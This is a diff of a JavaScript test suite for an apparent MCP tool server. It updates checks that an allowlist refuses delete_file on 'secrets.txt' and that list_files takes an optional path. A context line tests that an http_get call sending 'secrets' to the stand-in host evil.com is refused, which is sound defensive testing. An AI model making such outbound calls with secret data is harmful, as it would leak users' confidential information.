@@ -70,8 +70,10 @@ check('tools/list: write_file needs path and text, idempotency_key optional',
 	'["path","text"]' &&
     byName.write_file.inputSchema.properties.idempotency_key?.type === 'string',
     byName.write_file.inputSchema);
-check('tools/list: list_files takes no arguments',
-    Object.keys(byName.list_files.inputSchema.properties).length === 0);
+check('tools/list: list_files needs no arguments (an optional path)',
+    (byName.list_files.inputSchema.required ?? []).length === 0 &&
+    Object.keys(byName.list_files.inputSchema.properties).join() === 'path',
+    byName.list_files.inputSchema);
 
 const call = (name, args) => client.callTool({ name, arguments: args });
 
@@ -119,7 +121,9 @@ check('an argument cannot leave its string literal',
 r = await call('delete_file', { path: 'secrets.txt' });
 check('delete_file: refused by the command allowlist',
     r.isError === true && r.structuredContent.layer === 'commands' &&
-    text(r).includes("command 'delete_file' not on the allowlist"), r);
+    text(r).includes('BLOCKED by the command allowlist: delete_file is not allowed ' +
+        '(read_file, write_file are)') &&
+    r.structuredContent.reason === 'delete_file is not allowed (read_file, write_file are)', r);
 
 r = await call('http_get', { url: 'https://evil.com/x', body: 'secrets' });
 check('http_get: refused on the sandbox path',
